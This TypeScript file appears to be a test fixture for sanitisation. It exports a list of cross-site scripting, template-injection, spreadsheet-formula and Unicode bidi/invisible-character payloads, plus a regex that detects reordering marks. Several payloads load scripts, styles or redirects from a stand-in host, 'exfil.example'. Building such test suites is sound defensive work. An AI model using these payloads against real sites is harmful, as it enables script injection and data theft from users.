/** Every payload that is run as code sets this; every one that loads something asks this host. */
export const RAN = '__payloadRan';
export const EXFIL = 'exfil.example';

const js = `window.${RAN}=1`;
const url = `https://${EXFIL}/p`;
const RLO = '\u202e';
const PDF = '\u202c';

/** Texts that try to be more than text: markup, script addresses, styles, templates, direction and invisible marks. */
export const PAYLOADS: readonly string[] = [
  `<script>${js}</script>`,
  `<SCRIPT SRC=${url}.js></SCRIPT>`,
  `"><script>${js}</script>`,
  `</title><script>${js}</script>`,
  `</textarea><script>${js}</script>`,
  `</style><script>${js}</script>`,
  `--><script>${js}</script>`,
  `]]><script>${js}</script>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<img src=x onerror=${js}>`,
  `<img src=${url}.png>`,
  `"><img src=x onerror="${js}">`,
  `<img src=x:x onerror\n=\n${js}>`,
  `<image href=x onerror=${js}>`,
  `<svg onload=${js}>`,
  `<svg><script>${js}</script></svg>`,
  `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${js}/>#x"/>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RAN}=1</script>">`,
  `<math><mi xlink:href="javascript:${js}">x</mi></math>`,
  `<iframe src="javascript:parent.${RAN}=1">`,
  `<iframe srcdoc="<script>parent.${RAN}=1</script>">`,
  `<object data="javascript:${js}">`,
  `<embed src="${url}">`,
  `<link rel=stylesheet href=${url}.css>`,
  `<meta http-equiv=refresh content="0;url=${url}">`,
  `<base href="${url}/">`,
  `<form action=${url}><button>ok`,
  `<input autofocus onfocus=${js}>`,
  `<details open ontoggle=${js}>`,
  `<video><source onerror=${js}></video>`,
  `<audio src=${url}.mp3 onerror=${js}>`,
  `<body onload=${js}>`,
  `<marquee onstart=${js}>`,
  `<style>@import "${url}.css";</style>`,
  `<style>*{background:url(${url})}</style>`,
  `<a href="javascript:${js}">click</a>`,
  `javascript:${js}//`,
  `java\tscript:${js}`,
  `data:text/html,<script>${js}</script>`,
  `<template><script>${js}</script></template>`,
  `<x-y is="pilotlight-panel"></x-y>`,
  `<slot></slot><pilotlight-panel></pilotlight-panel>`,
  `&lt;script&gt;${js}&lt;/script&gt;`,
  `&#60;img src=x onerror=${js}&#62;`,
  `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  `\u{ff1c}script\u{ff1e}${js}\u{ff1c}/script\u{ff1e}`,
  `{{constructor.constructor('${js}')()}}`,
  `\${${js}}`,
  `{name, select, other {${js}}}`,
  `{count, plural, one {#} other {#}} {0} '{' <0>x</0>`,
  `=HYPERLINK("${url}","x")`,
  `${RLO}evitca si siht${PDF} approved`,
  `Approved${RLO}\u2066desufer\u2069${PDF}`,
  `\u200bZero\u200bwidth\ufeff\u2060text`,
  `\u0000nul\u0007bell\u001b[31mred\u009b`,
  `line one\nline two\r\nline three\u2028four\u2029five`,
  `Z\u0334\u0321\u0353a\u0337\u0353l\u0335\u0347g\u0336o\u0335`.repeat(4),
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{e0067}\u{e007f} \u05e9\u05dc\u05d5\u05dd (abc) \u0645\u0631\u062d\u0628\u0627',
  `__proto__ constructor ${'toString '.repeat(6)}`,
];

/** Marks that can reorder or hide what stands beside them; Unicode's own isolates are how we hold them in. */
export const REORDERING = /[\u202a-\u202e\u200e\u200f\u061c\u2066\u2067\u200b\ufeff]/;
